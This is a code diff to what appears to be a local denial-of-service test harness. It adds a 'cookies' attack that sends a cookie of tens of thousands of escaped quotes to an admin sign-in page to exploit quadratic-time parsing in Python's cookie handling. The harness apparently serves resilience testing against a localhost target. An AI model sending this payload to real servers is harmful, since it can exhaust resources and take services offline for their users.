@@ -102,6 +102,12 @@ def slow_readers(target: Target, _: random.Random) -> tuple[int, int]:
         connection.close()
 
 
+def cookies(target: Target, _: random.Random) -> tuple[int, int]:
+    """Quotes that Python's own parser removes in quadratic time."""
+    planted = 'a="' + '\\"' * 29_000 + '"'
+    return _get(target, "/admin/sign-in", cookie=planted)
+
+
 def forms(target: Target, _: random.Random) -> tuple[int, int]:
     path = "/api/collections/blog_members/records/abcdefghij01234"
     body = upload_bytes(path, _host(target, "attacked"), {}, _FILE).replace(b"POST", b"PATCH", 1)
@@ -123,6 +129,7 @@ ATTACKS: Final[dict[str, Attack]] = {
     "excerpts": excerpts,
     "pages": pages,
     "slow readers": slow_readers,
+    "cookies": cookies,
     "forms": forms,
     "logins": logins,
 }
@@ -133,10 +140,10 @@ def _host(target: Target, tenant: str) -> dict[str, str]:
     return {"Host": f"{tenant}.localhost:{target.port}"}
 
 
-def _get(target: Target, path: str) -> tuple[int, int]:
+def _get(target: Target, path: str, **headers: str) -> tuple[int, int]:
     connection = http.client.HTTPConnection("127.0.0.1", target.port, timeout=60)
     try:
-        connection.request("GET", path, headers=_host(target, "attacked"))
+        connection.request("GET", path, headers=_host(target, "attacked") | headers)
         answer = connection.getresponse()
         return answer.status, len(answer.read())
     finally:
